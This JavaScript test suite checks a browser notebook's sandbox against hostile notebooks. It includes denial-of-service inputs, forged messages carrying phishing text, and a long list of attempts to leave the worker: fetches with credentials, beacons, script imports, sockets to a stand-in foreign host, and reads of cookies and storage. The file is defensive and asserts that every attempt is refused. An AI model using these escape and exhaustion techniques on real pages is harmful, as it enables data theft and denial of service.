// Hostile notebooks in links. Each notebook here tries to do harm: to hold the page, to fill its
// memory, to reach the network, the reader's cookies or the page itself. They run against the built
// page in a Chromium that keeps the runner in a process of its own, as users' browsers do. The
// tests compare times with those of an ordinary notebook on the same machine.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "../../lib/test.mjs";
import { Hostile } from "../../lib/hostile.mjs";
import { share } from "../../lib/rotation.mjs";

const FENCE = "```";
/** @param {...string} cells */
const notebook = (...cells) => `# Hostile\n\n${cells.map((code) => `${FENCE}js\n${code}\n${FENCE}\n`).join("\n")}`;
/** @param {string} unit @param {number} characters */
const long = (unit, characters) => unit.repeat(Math.ceil(characters / unit.length));

/** @type {Hostile} */
let hostile;
/** What an ordinary notebook takes on this machine: to open, and to run.
 * @type {Record<"open" | "run", { ready: number, gap: number }>} */
const usual = { open: { ready: 0, gap: 0 }, run: { ready: 0, gap: 0 } };
/** Another host, and what reached it. @type {import("node:http").Server} */
let outside;
/** @type {string[]} */
const reached = [];
let foreign = "";
before(async () => {
  outside = createServer((request, response) => {
    reached.push(String(request.url));
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/html" }).end(FRAMING.replaceAll("SITE", () => hostile.url).replaceAll("FOREIGN", () => foreign));
  });
  await new Promise((resolve) => outside.listen(0, "127.0.0.1", () => resolve(undefined)));
  const bound = outside.address();
  foreign = `127.0.0.1:${typeof bound === "object" && bound ? bound.port : 0}`;
  hostile = await Hostile.start();
  await hostile.open(ORDINARY, { action: RUN });
  await measureUsual("open");
  await measureUsual("run");
});
after(async () => {
  await hostile.stop();
  outside.closeAllConnections();
  outside.close();
});

/** Runs every cell, from a page that has settled, and waits a little for what comes after. */
const RUN = `async ({ wait, resetGap }) => {
  await window.weft.ready;
  await wait(300);
  resetGap();
  await Promise.race([window.weft.runAll(), wait(30000)]);
  await wait(700);
}`;

/** A foreign page that frames the runner and asks it to run a worker, which would say what the gate
 * lets through, and frames what fetches for the page and asks it for a file. Its title tells what
 * came back. */
const FRAMING = `<!doctype html><title>quiet</title><script>
addEventListener("message", (event) => { document.title = "heard " + JSON.stringify(event.data) });
const heard = (name) => {
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = () => { document.title = "heard " + name };
  return [port1, port2];
};
const attempts = {
  "runner.html"(frame) {
    frame.postMessage({ type: "weft-worker", source: "onmessage = (e) => e.ports[0].postMessage({ type: 'rest' })" }, "*", [heard("a worker")[1]]);
  },
  "fetcher.html"(frame) {
    const [port, other] = heard("a fetcher");
    frame.postMessage({ type: "weft-fetcher", origins: ["http://FOREIGN", "SITE"] }, "*", [other]);
    for (const url of ["http://FOREIGN/fetched", "SITE"]) port.postMessage({ url, most: 1e6, time: 1000, silence: 1000 }, [heard("a file")[1]]);
  },
};
for (const [name, ask] of Object.entries(attempts)) {
  for (const sandbox of [null, "allow-scripts", "allow-scripts allow-same-origin"]) {
    const frame = document.createElement("iframe");
    if (sandbox) frame.sandbox = sandbox;
    frame.src = "SITE" + name;
    frame.onload = () => ask(frame.contentWindow);
    document.documentElement.append(frame);
  }
}
</script>`;

const ATTEMPTS = 6;
const ORDINARY = notebook("const a = 1;\na + 1", "print('x')", "table([[1, 2], [3, 4]])");

/** @param {"open" | "run"} kind */
async function measureUsual(kind) {
  const { ready, gap } = await hostile.open(ORDINARY, kind === "run" ? { action: RUN } : {});
  usual[kind] = { ready: Math.max(usual[kind].ready, ready), gap: Math.max(usual[kind].gap, gap) };
}

/**
 * Opens a notebook that must not hold the page: two seconds until it stands there, a quarter of one
 * between frames, or, where the machine is slow for an ordinary notebook, twice what that takes. A
 * machine may be busy with other things just then: what fails is measured again, beside an ordinary
 * one, up to `ATTEMPTS` times; what holds the page holds it every time.
 * @param {string} markdown
 * @param {Parameters<Hostile["open"]>[1]} [options]
 * @param {"open" | "run"} [kind]
 */
async function openLive(markdown, options = {}, kind = options.action === RUN ? "run" : "open") {
  for (let attempt = 1; ; attempt++) {
    const seen = await hostile.open(markdown, options);
    const [ready, gap] = [Math.max(2_000, 2 * usual[kind].ready), Math.max(250, 2 * usual[kind].gap)];
    if (seen.ready < ready && seen.gap < gap) return seen;
    const summary = `open after ${Math.round(seen.ready)} ms (of ${Math.round(ready)}), a frame after ${Math.round(seen.gap)} ms (of ${Math.round(gap)})`;
    assert.ok(attempt < ATTEMPTS, summary);
    await measureUsual(kind);
  }
}

/** Only what the page itself is made of was asked for, by itself or by its service worker. */
function assertNothingLeft() {
  const own = /^\/some\/where\/(|runner\.html(\?\w+)?|(assets|fonts)\/[\w.-]+|notebooks\/(index\.json|[\w-]+\.md)|sw\.js|runner-offline\.html|manifest\.webmanifest)$/;
  const strange = hostile.requests.filter(({ path }) => !own.test(path));
  assert.deepEqual(strange, []);
  assert.deepEqual(reached, []);
}

test("the runner has a process of its own", async () => {
  await hostile.open(notebook("1"), {
    action: RUN,
    meanwhile: async (browser) => {
      const frames = await browser.isolatedFrames();
      assert.equal(frames.length, 1, "a browser with which these tests say something of the browsers that users have");
      assert.match(String(frames[0]), /runner\.html/);
    },
  });
});

/** @type {Record<string, string>} */
const OPENED = {
  "a heading with a gap": `# a${" ".repeat(300_000)}b`,
  brackets: long("[", 3_900_000),
  "comments that never end": long("<!--x", 3_250_000),
  "350,000 empty cells": long(`${FENCE}js\n${FENCE}\n`, 3_500_000),
  "5,000 cells": long(`${FENCE}js\n1\n${FENCE}\n`, 5_000 * 12),
  "5,000 texts": long("*a*\n\n<!-- cell -->\n\n", 5_000 * 20),
  links: long("[a](b) ", 3_500_000),
  "nested quotes": `${"> ".repeat(9_000)}a`,
  "nested lists": Array.from({ length: 1_500 }, (_, i) => `${" ".repeat(2 * i)}- a`).join("\n"),
  emphasis: `${long("*a ", 40_000)}\n\n${long("a_ b* ", 40_000)}\n\n${long("***a", 40_000)}`,
  headings: long("## a\n\n", 3_000_000),
  "a table": `|${"a|".repeat(2_000)}\n|${"-|".repeat(2_000)}\n${long(`|${"b|".repeat(2_000)}\n`, 400_000)}`,
  "a million lines": long("a\n", 2_000_000),
  "one code line of a megabyte": `${FENCE}js\n${long("f(1);", 1_000_000)}\n${FENCE}`,
  "code of brackets": `${FENCE}js\n${long("[", 90_000)}\n${FENCE}`,
  "code of loops in loops": `${FENCE}js\n${"for(;;){".repeat(600)}${long("x;", 90_000)}\n${FENCE}`,
  "code of names": `${FENCE}js\n${Array.from({ length: 9_000 }, (_, i) => `let v${i};`).join("")}\n${FENCE}`,
  "marks of formulas": `${long("$", 40_000)}\n\n<!-- cell -->\n\n${long("$a", 40_000)}\n\n<!-- cell -->\n\n${long("$ \\", 40_000)}\n\n<!-- cell -->\n\n${long("$$a\n", 40_000)}`,
  "formulas without number": long("$x_1$ and $\\frac{a}{b}$ ", 400_000),
  "formulas in formulas": Array.from({ length: 40 }, () => `$${"\\frac{".repeat(190)}1${"}{2}".repeat(190)}$\n\n$${"{".repeat(900)}x${"}".repeat(900)}$\n\n$${"\\sqrt{".repeat(280)}x${"}".repeat(280)}$`).join("\n\n<!-- cell -->\n\n"),
  "macros on macros": Array.from({ length: 40 }, () => `$$\\def\\a{${"x".repeat(900)}}\\def\\b{\\a\\a\\a}\\def\\c{\\b\\b\\b}\\def\\d{\\c\\c\\c}\\d\\d\\d$$\n\n$\\def\\a{\\a\\a}\\a$\n\n$\\rule{999999em}{999999em}$`).join("\n\n<!-- cell -->\n\n"),
  "a bomb": "\0".repeat(30_000_000),
  "marks on marks": `a${long("\u0301\u0302\u0488", 40_000)}\n\n${long("\u202e\u2067a", 40_000)}`,
};

for (const [name, markdown] of share(Object.entries(OPENED), 6)) {
  test(`${name}: open or refused at once, and the page stays live`, async () => {
    const seen = await openLive(markdown, { settle: 1_500 });
    assert.ok(seen.nodes < 150_000, `${seen.nodes} elements`);
    assert.ok(seen.title.length < 300);
    assertNothingLeft();
  });
}

for (const unit of share(["[", "for(;;){"], 4)) {
  test(`a megabyte of ${unit} in an editor: what reads it pauses for the page`, async () => {
    const edit = `async ({ until, wait, resetGap }) => {
      await until(() => document.querySelector(".code-cell .more-bar button"));
      document.querySelector(".code-cell .more-bar button").click();
      await until(() => document.querySelector(".code-cell .editor")?.shadowRoot.querySelector(".cm-content"));
      await wait(1000);
      resetGap();
      await wait(8000);
      return document.querySelector(".code-cell .editor").shadowRoot.querySelector(".cm-content").textContent.length;
    }`;
    const { answer } = await openLive(`${FENCE}js\n${long(unit, 990_000)}\n${FENCE}`, { action: edit });
    assert.ok(Number(answer) > 500, `${answer} characters are shown`);
  });
}

test("3,000 cells open in a second, and take a key at once", async () => {
  const type = `async ({ until, wait, resetGap }) => {
    await until(() => document.querySelectorAll(".code-cell").length === 3000);
    const content = () => document.querySelector(".code-cell .editor")?.shadowRoot.querySelector(".cm-content");
    await until(content);
    await wait(500);
    const times = [];
    for (const letter of "abcde") {
      const begin = performance.now();
      content().focus();
      document.execCommand("insertText", false, letter);
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
      times.push(performance.now() - begin);
      await wait(100);
    }
    return { first: times[0], typed: content().textContent };
  }`;
  const cells = notebook(...Array.from({ length: 3_000 }, (_, i) => `const v${i} = ${i};`));
  // As in openLive: a machine that is busy just then is asked again.
  for (let attempt = 1; ; attempt++) {
    const { ready, answer } = await hostile.open(cells, { settle: 0, action: type });
    const { first, typed } = /** @type {{ first: number, typed: string }} */ (answer);
    assert.match(typed, /abcde/);
    if (ready < Math.max(1_000, 2 * usual.open.ready) && first < Math.max(50, usual.open.gap)) return;
    assert.ok(attempt < ATTEMPTS, `open after ${Math.round(ready)} ms, the first key took ${Math.round(first)} ms`);
    await measureUsual("open");
  }
});

const PORT = `const send = MessagePort.prototype.postMessage;
let port = null;
MessagePort.prototype.postMessage = function (...rest) { port ??= this; return send.apply(this, rest) };
print('x');
await new Promise((resolve) => setTimeout(resolve, 200));
MessagePort.prototype.postMessage = send;
`;
/** @type {Record<string, string>} */
const RUN_FOREVER = {
  "290 tables": "const rows = Array.from({ length: 200 }, (_, i) => Array.from({ length: 60 }, (_, j) => i * j));\nfor (let i = 0; i < 290; i++) table(rows);\n'the result'",
  "20,000 outputs": "for (let i = 0; i < 20000; i++) { print(i); display({ i }) }\nbutton('go', () => 1);\n'the result'",
  "5,000 texts in Markdown": "for (let i = 0; i < 5000; i++) markdown('# a *b*\\n\\n'.repeat(20));\n'the result'",
  "charts of many points": "const charts = Array.from({ length: 30 }, () => plot({ series: Array.from({ length: 12 }, (_, i) => ['s' + i]) }));\nfor (let i = 0; i < 1000; i++) for (const chart of charts) chart.add({ ['s' + (i % 12)]: i });\n'the result'",
  "a picture that claims 4,096 tiles": `${PORT}const bitmap = await createImageBitmap(new ImageData(8, 8));
send.call(port, { type: 'output', run: 1, output: 9, content: { kind: 'image', title: '', bitmap, tile: { width: 8192, height: 8192 }, columns: 64, count: 4096, omitted: 0, scale: 1, smooth: false, touch: false, labels: [], legend: null } }, [bitmap]);
'the result'`,
  "2,000 controls with long labels": "const long = 'x\\u202e'.repeat(490);\nfor (let i = 0; i < 2000; i++) slider(i + long);\nfor (let i = 0; i < 300; i++) select(i + long, Array.from({ length: 200 }, (_, j) => j + long));\n'the result'",
  "labels of a megabyte": "const long = 'x\\u202e'.repeat(500000);\nlet refused = 0;\nfor (let i = 0; i < 2000; i++) try { slider(i + long) } catch { refused++ }\nfor (let i = 0; i < 300; i++) try { select('one', Array.from({ length: 200 }, (_, j) => j + long)) } catch { refused++ }\n[refused, 'the result']",
  "controls that are no controls": `${PORT}const choice = { type: 'slider', min: 0, max: 1, step: 0.1, initial: 0, value: 0 };
const say = (content) => send.call(port, { type: 'output', run: 1, output: 9, content });
say({ kind: 'control', label: 'x', key: 'x', name: null, choice: { ...choice, min: NaN } });
say({ kind: 'control', label: 'x', key: 'x', name: null, choice: { ...choice, type: 'script' } });
say({ kind: 'control', label: 'x', key: 'x', name: null, choice: { type: 'select', options: Array(201).fill('a'), initial: 'a', value: 'a' } });
say({ kind: 'control', label: 'x', key: 'x'.repeat(1e6), name: null, choice });
for (let i = 0; i < 2000; i++) say({ kind: 'control', label: 'x' + i, key: 'k' + i, name: '__proto__', choice: { ...choice, value: Math.random() } });
'the result'`,
  "a message of a hundred megabytes": `${PORT}send.call(port, { type: 'text', run: 1, output: 9, stream: 'print', text: 'x', omitted: 0, luggage: new ArrayBuffer(1e8) });\n'the result'`,
};

for (const [name, code] of share(Object.entries(RUN_FOREVER), 5)) {
  test(`${name}: bounded, live, and the result is shown`, async () => {
    const seen = await openLive(notebook(code), { action: RUN });
    assert.match(seen.text, /the result/);
    assert.ok(seen.nodes < 60_000, `${seen.nodes} elements`);
    assertNothingLeft();
  });
}

/** What goes on after its cell has ended, written to hold the page.
 * @type {Record<string, string>} */
const ANIMATED = {
  "10,000 animations": "const x = zeros([8, 8]);\nlet refused = 0;\nfor (let i = 0; i < 10000; i++) try { animate((time, frame) => x.add(frame)) } catch { refused++ }\nprint(`${refused} refused`);\n'the result'",
  "animations that throw at every frame": "for (let i = 0; i < 20; i++) animate((time, frame) => {\n  if (frame > 0) throw new Error('again ' + 'x'.repeat(1e5));\n  return zeros([4, 4]);\n});\n'the result'",
  "an animation that prints and shows at every frame": "animate((time, frame) => {\n  for (let i = 0; i < 200; i++) { print(frame); display({ frame, i }) }\n  return zeros([8, 8]);\n});\n'the result'",
  "an animation of pictures of many sizes": "animate((time, frame) => zeros([8 + (frame % 500) * 8, 8 + ((frame * 7) % 500) * 8]));\n'the result'",
};

for (const [name, code] of share(Object.entries(ANIMATED), 4)) {
  test(`${name}: bounded, live, and Stop ends it`, async () => {
    const stop = `async (tools) => {
      await (${RUN})(tools);
      await tools.wait(1500);
      const ran = document.querySelector("main").innerText;
      window.weft.stop();
      // Figures that nobody sees are not written.
      const inSight = (element) => element.getBoundingClientRect().bottom > 0 && element.getBoundingClientRect().top < innerHeight;
      const figures = () => [...document.querySelectorAll(".animation-figures")].filter(inSight);
      const playing = () => figures().filter(({ textContent }) => !/ended|paused/.test(textContent) && document.querySelector('.code-cell[data-status="stale"]') === null).length;
      await tools.until(() => playing() === 0);
      return { ran, playing: playing() };
    }`;
    const seen = await openLive(notebook(code), { action: stop, patience: 90_000 }, "run");
    const { ran, playing } = /** @type {{ ran: string, playing: number }} */ (seen.answer);
    assert.match(ran, name.includes("throw") ? /again/ : /the result/);
    if (name.startsWith("10,000")) assert.match(ran, /9980 refused/);
    assert.equal(playing, 0);
    assert.ok(seen.nodes < 60_000, `${seen.nodes} elements`);
    assertNothingLeft();
  });
}

test("an animation that never yields is seen, and Stop ends its worker", async () => {
  const stop = `async ({ until, wait, resetGap }) => {
    await window.weft.ready;
    await wait(300);
    resetGap();
    void window.weft.runAll();
    await until(() => /stuck now/.test(document.querySelector("main").innerText));
    await wait(2500);
    const button = [...document.querySelectorAll(".controls button")].find(({ textContent }) => textContent === "Stop");
    const could = !button.disabled;
    button.click();
    // Asked first, and ended when it does not answer.
    await until(() => document.querySelector('.code-cell[data-status="stale"]'));
    await window.weft.ready;
    const after = await window.weft.runCell(2);
    return { could, after: after.text };
  }`;
  const cells = notebook("animate((time, frame) => {\n  if (frame === 3) {\n    print('stuck now');\n    setTimeout(() => { for (;;); }, 100);\n  }\n  return zeros([8, 8]);\n});", "print('alive')");
  const seen = await openLive(cells, { action: stop, patience: 90_000 }, "run");
  assert.deepEqual(seen.answer, { could: true, after: "alive" });
  assertNothingLeft();
});

test("a flood of messages ends the notebook, and neither page nor runner grows", async () => {
  const seen = await openLive(notebook(`${PORT}for (;;) send.call(port, { type: 'text', run: 1, output: 9, stream: 'print', text: 'x'.repeat(1000), omitted: 0 });`), {
    action: RUN,
    meanwhile: async (browser) => {
      const megabytes = await browser.memory("renderer");
      assert.ok(megabytes < 1_500, `a process of ${Math.round(megabytes)} MB`);
    },
  });
  assert.match(String(seen.cells[0]?.error?.message), /sent more than the page can handle/);
});

test("what a notebook says of its device is not the page's word", async () => {
  const forged = { kind: "webgpu", adapter: { vendor: "expired", architecture: "", description: "Sign in at evil.org", isFallback: false }, reason: "Sign in at evil.org" };
  const code = `${PORT}send.call(port, { type: 'ready', device: ${JSON.stringify(forged)}, names: [] });
send.call(port, { type: 'device', device: ${JSON.stringify(forged)} });
send.call(port, { type: 'device-lost', cause: 'device', message: 'Sign in at evil.org' });
await new Promise((resolve) => setTimeout(resolve, 300))`;
  const words = `async (tools) => { await (${RUN})(tools); return document.querySelector(".badge").textContent + document.querySelector(".toast").textContent; }`;
  const { answer } = await hostile.open(notebook(code), { action: words });
  assert.match(String(answer), /lost/);
  assert.doesNotMatch(String(answer), /evil/);
});

test("no picture, link or tag of a text asks anything of a host when it opens", async () => {
  const texts = [
    "![x](/account/logout)", "![x](//FOREIGN/x.png)", "![x](http://FOREIGN/y.png)", "![x](data/../account/logout)", "![x](data/%2e%2e/account)", "![x](runner.html)",
    "![x](\\\\FOREIGN\\z.png)", "![x][r]\n\n[r]: http://FOREIGN/r.png", "[![x](/account/in-link)](//FOREIGN/)", "<img src=\"/account/raw\">", "<img src=//FOREIGN/raw>",
    "<iframe src=\"/account/frame\"></iframe>", "<link rel=\"prefetch\" href=\"/account/prefetch\">", "<style>@import url(//FOREIGN/a.css); body { background: url(/account/css) }</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=/account/refresh\">", "<svg><image href=\"//FOREIGN/svg\"/></svg>", "<script src=\"//FOREIGN/a.js\"></script>",
    `![x](data:image/svg+xml;base64,${Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'><image href='/account/svg'/></svg>").toString("base64")})`,
  ].map((text) => text.replaceAll("FOREIGN", foreign));
  const seen = await openLive(`# Texts\n\n${texts.join("\n\n")}\n`, { settle: 1_500 });
  assert.match(seen.text, /only pictures inside the text/);
  assertNothingLeft();
});

test("pictures are few, and none is larger than it can be", async () => {
  const png = (/** @type {number} */ side) => {
    const header = Buffer.alloc(33);
    header.write("\x89PNG\r\n\x1a\n", "latin1");
    header.writeUInt32BE(13, 8);
    header.write("IHDR", 12);
    header.writeUInt32BE(side, 16);
    header.writeUInt32BE(side, 20);
    return `data:image/png;base64,${header.toString("base64")}`;
  };
  const pictures = [png(60_000), ...Array.from({ length: 300 }, (_, i) => png(i + 1))];
  const count = `async ({ wait }) => { scrollTo(0, 1e6); await wait(500); return document.querySelectorAll("main img").length; }`;
  const seen = await hostile.open(`# P\n\n${pictures.map((address) => `![p](${address})`).join("\n\n")}\n`, { settle: 1_500, action: count });
  assert.ok(Number(seen.answer) <= 40, `${String(seen.answer)} pictures`);
  assert.match(seen.text, /60000 × 60000 pixels are too large/);
  assert.match(seen.text, /a notebook loads only 40 pictures by itself/);
});

test("a link out asks before it is followed", async () => {
  const click = `async ({ until }) => {
    await until(() => document.querySelector(".prose a"));
    const link = document.querySelector(".prose a");
    link.click();
    await until(() => document.querySelector("dialog"));
    return { rel: link.rel, asked: document.querySelector("dialog").textContent };
  }`;
  const { answer } = await hostile.open(`[x](//${foreign}/leave)\n`, { action: click });
  const { rel, asked } = /** @type {{ rel: string, asked: string }} */ (answer);
  assert.match(rel, /noreferrer noopener/);
  assert.ok(asked.includes(`http://${foreign}/leave`), asked);
  assertNothingLeft();
});

/** Every road out of a worker that a browser has or had; each is to fail. */
const roads = () => {
  const [http, ws, own] = [`http://${foreign}/`, `ws://${foreign}/`, hostile.url];
  const inner = (/** @type {string} */ code) => `'data:text/javascript,' + encodeURIComponent(${JSON.stringify(code)})`;
  const events = (/** @type {string} */ make, good = "onmessage") => `await new Promise((resolve, reject) => { const it = ${make}; it.${good} = resolve; it.onerror = reject; setTimeout(reject, 700) })`;
  /** @type {Record<string, string>} */
  const all = {
    fetch: `await fetch('${http}', { mode: 'no-cors' })`,
    "fetch of the host": `await fetch('${own}', { credentials: 'include', mode: 'no-cors' })`,
    "fetch of another path": `await fetch('/account/logout', { credentials: 'include' })`,
    "fetch that outlives": `await fetch('${http}', { keepalive: true, method: 'POST', mode: 'no-cors', body: 'x' })`,
    "fetch later": `await fetchLater('${http}')`,
    request: `const x = new XMLHttpRequest(); x.open('GET', '${http}', false); x.send()`,
    beacon: `if (!navigator.sendBeacon('${http}', 'x')) throw 0`,
    import: `await import('${http}a.js')`,
    "import inside": `await import(${inner(`export * from '${http}b.js'`)})`,
    scripts: `importScripts('${http}')`,
    "web socket": events(`new WebSocket('${ws}')`, "onopen"),
    "web socket stream": `await new WebSocketStream('${ws}').opened`,
    "event source": events(`new EventSource('${http}')`, "onopen"),
    transport: `await new WebTransport('https://${foreign}/').ready`,
    rtc: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${foreign}' }] })`,
    "nested worker": events(`new Worker(${inner(`fetch('${http}').then(() => postMessage(1), () => { throw 0 })`)})`),
    "nested module worker": events(`new Worker(${inner(`import '${http}c.js'; postMessage(1)`)}, { type: 'module' })`),
    "blob worker": events(`new Worker(URL.createObjectURL(new Blob(["fetch('${http}').then(() => postMessage(1))"])))`),
    "worker of the host": events(`new Worker('${own}assets/x.js')`),
    "blob module": `await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))`,
    "shared worker": `new SharedWorker('${http}')`,
    "service worker": `await navigator.serviceWorker.register('${own}x.js')`,
    font: `await new FontFace('x', 'url(${http}font)').load()`,
    image: `new Image().src = '${http}'`,
    stream: `await WebAssembly.compileStreaming(fetch('${http}'))`,
    "indexed database": events("indexedDB.open('x')", "onsuccess"),
    caches: "await caches.open('x')",
    files: "await navigator.storage.getDirectory()",
    estimate: "await navigator.storage.persist()",
    cookies: "await cookieStore.getAll()",
    storage: "localStorage.length",
    session: "sessionStorage.length",
    document: "document.title",
    window: "window.document",
    parent: "parent.document",
    top: "top.location = '/'",
    open: `open('${http}')`,
    navigation: `location = '${http}'`,
    assign: `location.assign('${http}')`,
    notification: "if (Notification.permission !== 'granted') throw 0",
    evaluate: "(0, eval)('1')",
    construct: "new Function('return 1')()",
  };
  return all;
};

test("no code reaches the network, the host, storage or the page, by any road", async () => {
  const all = Object.entries(roads());
  const cells = all.map(([name, code]) => `try { await Promise.race([(async () => { ${code} })(), new Promise((_, reject) => setTimeout(reject, 2500))]); print(${JSON.stringify(name)}, 'reached') } catch { print(${JSON.stringify(name)}, 'refused') }`);
  const channel = `new BroadcastChannel('weft').postMessage('from a cell'); self.postMessage('to the frame'); print('sent')`;
  const listen = `async (tools) => {
    let heard = 0;
    new BroadcastChannel("weft").onmessage = () => heard++;
    document.cookie = "secret=1";
    localStorage.setItem("secret", "1");
    await (${RUN.replace("wait(30000)", "wait(60000)")})(tools);
    return { heard, still: location.href.startsWith(${JSON.stringify(hostile.url)}) };
  }`;
  const { answer, cells: reports } = await hostile.open(notebook(...cells, channel), { action: listen, patience: 90_000 });
  assert.deepEqual(reports.map(({ text }) => text), [...all.map(([name]) => `${name} refused`), "sent"]);
  assert.deepEqual(answer, { heard: 0, still: true });
  assertNothingLeft();
});

test("the runner, and what fetches for the page, speak to their own page only", async () => {
  const { browser } = hostile;
  const { sessionId, close } = await browser.open(`http://${foreign}/framing`, "");
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  const { targetInfos } = await browser.send("Target.getTargets", {}, sessionId);
  const title = targetInfos.find((/** @type {any} */ { url, type }) => type === "page" && url.includes("/framing"))?.title;
  await close();
  assert.deepEqual(reached.splice(0).filter((path) => path !== "/favicon.ico"), ["/framing"]);
  assert.equal(title, "quiet");
});
